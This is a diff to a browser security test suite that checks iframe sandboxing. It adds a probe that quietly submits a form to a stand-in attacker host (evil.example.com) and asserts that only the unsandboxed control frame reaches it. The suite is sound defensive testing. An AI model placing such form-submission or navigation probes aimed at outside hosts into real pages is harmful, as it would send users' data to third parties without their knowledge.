@@ -133,13 +133,22 @@ const inDocument = {
     return true;
   },
   database: () => indexedDB.open("leak") !== null,
+  form: () => {
+    const target = Object.assign(document.createElement("iframe"), { name: "target" });
+    const form = Object.assign(document.createElement("form"), { target: "target", action: "https://evil.example.com/form" });
+    document.body.append(target, form);
+    form.submit();
+    // Whether it was sent, its receiver knows.
+    return self.origin !== "null";
+  },
   "the page": () => parent.document.title.length > 0,
 };
 
 for (const sandboxed of [true, false]) {
   test(`${sandboxed ? "" : "control of "}THREATS 25: in the frame's document ${sandboxed ? "nothing" : "everything"} is open @js`, async ({ lab, page, allowed }) => {
-    allowed.push(/./);
-    await stranger(page.context());
+    // What a sandbox forbids is said in the console; the control tries it all.
+    allowed.push(sandboxed ? /sandboxed|Unsafe attempt|Content Security Policy/ : /./);
+    const arrived = await stranger(page.context());
     await openLab(page, lab, "lab-box");
     await expect(surface(page, "lab-box").getByText("Range 30d")).toBeVisible();
     if (!sandboxed) {
@@ -155,13 +164,17 @@ for (const sandboxed of [true, false]) {
       expect(could, name).toBe(!sandboxed);
     }
     await frame.evaluate(`try { (${inDocument["top navigation"].toString()})() } catch {}`).catch(() => undefined);
-    if (sandboxed) await expect(surface(page, "lab-box").getByText("Range 30d")).toBeVisible();
-    else await page.waitForURL("https://evil.example.com/top");
+    if (sandboxed) {
+      await expect(surface(page, "lab-box").getByText("Range 30d")).toBeVisible();
+      expect(arrived).toEqual([]);
+    } else {
+      await page.waitForURL("https://evil.example.com/top");
+      expect(arrived.sort()).toEqual(["/form", "/popup", "/top"]);
+    }
   });
 }
 
-test("THREATS 29: with a plugin its own workers end @js", async ({ lab, page, allowed }) => {
-  allowed.push(/./);
+test("THREATS 29: with a plugin its own workers end @js", async ({ lab, page }) => {
   let ticks = 0;
   await page.context().route("https://ticks.example.com/**", (route) => {
     ticks += 1;
